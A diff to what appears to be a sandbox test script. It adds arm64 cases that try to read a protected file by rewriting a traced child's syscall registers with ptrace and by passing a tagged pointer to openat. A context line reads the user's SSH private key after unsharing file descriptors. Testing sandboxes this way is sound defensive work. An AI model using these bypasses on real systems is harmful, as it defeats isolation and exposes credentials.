@@ -240,6 +240,22 @@ while True:
     LIBC.ptrace(12, pid, 0, ctypes.addressof(regs)); r = list(struct.unpack("27Q", regs.raw))
     if r[15] == 102 and r[10] == 0xffffffffffffffda and not done:
         done, r[15], r[14], r[13] = 1, 2, at, 0; ctypes.memmove(regs, struct.pack("27Q", *r), 216); LIBC.ptrace(13, pid, 0, ctypes.addressof(regs))
+#: by a tracer that changes the call, arm64's needs=arm64
+name = P(KEY); at = ctypes.cast(name, ctypes.c_void_p).value; sys.stdout.flush(); pid = os.fork()
+if pid == 0:
+    call("ptrace", 0, 0, 0, 0); os.kill(os.getpid(), signal.SIGSTOP); fd = LIBC.syscall(ctypes.c_long(174)); say(os.read(fd, 4096)); os._exit(0)
+os.waitpid(pid, 0); regs, nr = buffer(bytes(272)), buffer(struct.pack("i", 56)); LIBC.ptrace.argtypes = [ctypes.c_long] * 4; done = 0; LIBC.ptrace(0x4200, pid, 0, 1)
+v, w = [buffer(struct.pack("QQ", ctypes.addressof(b), len(b))) for b in (regs, nr)]
+while True:
+    LIBC.ptrace(24, pid, 0, 0)
+    if not os.WIFSTOPPED(os.waitpid(pid, 0)[1]): break
+    LIBC.ptrace(0x4204, pid, 1, ctypes.addressof(v)); r = list(struct.unpack("34Q", regs.raw))
+    if r[8] == 174 and r[7] == 0 and not done:
+        done, r[0], r[1], r[2] = 1, 2**64 + AT, at, 0; ctypes.memmove(regs, struct.pack("34Q", *r), 272)
+        LIBC.ptrace(0x4205, pid, 1, ctypes.addressof(v)); LIBC.ptrace(0x4205, pid, 0x404, ctypes.addressof(w))
+#: by an address with a tag needs=arm64
+call("prctl", 55, 1, 0, 0, 0); name = P(KEY); at = ctypes.cast(name, ctypes.c_void_p).value | 0x5a << 56
+say(os.read(call("openat", AT, ctypes.c_void_p(at), 0, 0), 4096))
 #: by a thread with a table of descriptors of its own needs=namespaces
 def other():
     call("unshare", 0x400); d = os.open(HOME + "/.ssh", os.O_PATH); say(os.read(os.open("id_ed25519", os.O_RDONLY, dir_fd=d), 4096))
